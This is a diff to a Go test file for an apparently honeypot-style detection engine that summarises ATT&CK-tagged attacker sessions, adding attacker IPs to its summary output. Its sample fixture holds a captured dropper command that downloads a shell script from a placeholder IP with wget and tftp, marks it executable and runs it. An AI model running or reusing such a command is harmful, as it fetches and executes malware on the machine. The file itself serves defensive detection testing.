@@ -34,7 +34,7 @@ func seen(tactic, technique, rule, attacker, session, at, evidence string) engin
 
 func sample() []engine.Tag {
 	const wget = `{"command_text":"cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.9 -c get t.sh","matched":"wget http://203.0.113.9/bins.sh"}`
-	return []engine.Tag{
+	tags := []engine.Tag{
 		seen("TA0011", "T1105", "R0018", "a1", "s1", "2026-03-18T10:26:00Z", wget),
 		seen("TA0011", "T1105", "R0017", "a2", "s2", "2026-03-18T09:00:00+02:00", `{"command_text":"later"}`),
 		seen("TA0011", "T1105", "R0018", "a1", "s3", "2026-03-19T01:02:59.9Z", wget),
@@ -44,6 +44,8 @@ func sample() []engine.Tag {
 		seen("TA0006", "T1110.001", "R0002", "", "", "2026-03-18T10:28:00Z", `{"password_count":12}`),
 		seen("TA0006", "T1110.001", "R0002", "a3", "s4", "2026-03-18T10:28:00Z", `{"username":"root"}`),
 	}
+	tags[1].AttackerIP = "203.0.113.2"
+	return tags
 }
 
 func TestSummaryTechniques(t *testing.T) {
@@ -69,7 +71,7 @@ func TestSummaryTechniques(t *testing.T) {
 func TestSummaryAttackers(t *testing.T) {
 	s := NewSummary(nil)
 	s.Add(sample())
-	all := []AttackerCount{{"a2", 4, 3}, {"a1", 2, 1}, {"a3", 1, 1}}
+	all := []AttackerCount{{"a2", "203.0.113.2", 4, 3}, {"a1", "", 2, 1}, {"a3", "", 1, 1}}
 	for n := range 5 {
 		want := append([]AttackerCount{}, all[:min(n, len(all))]...)
 		if diff := cmp.Diff(want, s.Attackers(n)); diff != "" {
@@ -163,10 +165,10 @@ TAGS  TECHNIQUE  NAME                                                  TACTIC   
    1  T1548.001  Abuse Elevation Control Mechanism: Setuid and Setgid  Stealth                       1         1                                      R0015
       n=1
 
-TAGS  TECHNIQUES  BUSIEST ATTACKERS
-   4           3  a2
-   2           1  a1
-   1           1  a3
+TAGS  TECHNIQUES  BUSIEST ATTACKERS  ATTACKER UUID
+   4           3  203.0.113.2        a2
+   2           1                     a1
+   1           1                     a3
 `},
 		{80, `
 4 techniques in 8 tags, 3 attackers, 4 sessions, 2026-03-18 07:00 to 2026-03-19
@@ -194,10 +196,10 @@ TAGS  TECHNIQUE  NAME                TACTIC        ATTACKERS  SESSIONS  RULES
                  Setuid and Setgid
       n=1
 
-TAGS  TECHNIQUES  BUSIEST ATTACKERS
-   4           3  a2
-   2           1  a1
-   1           1  a3
+TAGS  TECHNIQUES  BUSIEST ATTACKERS  ATTACKER UUID
+   4           3  203.0.113.2        a2
+   2           1                     a1
+   1           1                     a3
 `},
 	}
 	for _, tt := range tests {
